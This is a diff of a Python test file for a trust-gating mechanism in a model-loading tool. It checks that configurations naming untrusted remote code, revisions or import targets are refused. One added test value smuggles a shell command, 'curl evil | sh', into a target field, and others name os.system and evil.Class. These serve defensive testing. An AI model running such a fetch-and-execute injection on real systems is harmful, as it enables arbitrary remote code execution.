@@ -99,6 +99,8 @@ def test_every_verb_that_loads_a_run_refuses(folder: Path, words: list[str]) -> 
     [
         ({"family": "hf", "name": "someone/else", "trust_remote_code": False}, "--trust model.name=someone/else"),
         ({"family": "hf", "name": "a", "trust_remote_code": True}, "--trust model.trust_remote_code=true"),
+        ({"family": "hf", "name": "a", "revision": "refs/pr/1"}, "--trust model.revision=refs/pr/1"),
+        ({"family": "custom", "target": "a.B; curl evil | sh"}, r"--trust 'model\.target=a\.B; curl evil \| sh'"),
         ({"family": "custom", "target": "os.system"}, "--trust model.target=os.system"),
         ({"family": "custom", "args": {"inner": [{"target": "evil.Class"}]}, "target": "skytrain.models.Decoder"},
          "--trust model.args.inner.target=evil.Class"),
@@ -118,7 +120,8 @@ def test_what_a_person_has_named_is_trusted_and_nothing_else() -> None:
     trust(["model.target=mine.Model"])
     check_trusted({"family": "hf", "name": "my/model", "trust_remote_code": True}, "model", "run a")
     check_trusted({"family": "custom", "target": "mine.Model"}, "model", "run a")
-    for other in ({"family": "hf", "name": "their/model"}, {"family": "custom", "target": "theirs.Model"}):
+    anybody = {"family": "hf", "name": "my/model", "trust_remote_code": True, "revision": "refs/pr/1"}
+    for other in ({"family": "hf", "name": "their/model"}, {"family": "custom", "target": "theirs.Model"}, anybody):
         with pytest.raises(SkytrainError, match="names code or files that you have not named"):
             check_trusted(other, "model", "run a")
     forget_trust()
@@ -172,6 +175,13 @@ def test_an_expert_that_is_a_file_of_yours_is_read_only_if_you_name_it(folder: P
         (folder / "runs/mine/ensemble.json").write_text(json.dumps(forest))
         said = skytrain("generate", "--from", "mine", f"store.root={folder}")
         assert f"--trust ensemble.expert={expert}" in said
+
+
+def test_an_ensemble_that_names_itself_is_refused(folder: Path) -> None:
+    (folder / "runs/mine/ensemble.json").write_text(
+        json.dumps({"experts": ["mine"], "prior": [1.0], "updating": False})
+    )
+    assert "is an ensemble of ensembles" in skytrain("generate", "--from", "mine", f"store.root={folder}")
 
 
 def test_a_merge_reads_no_weights_because_a_record_calls_them_its_start(folder: Path, tmp_path: Path) -> None:
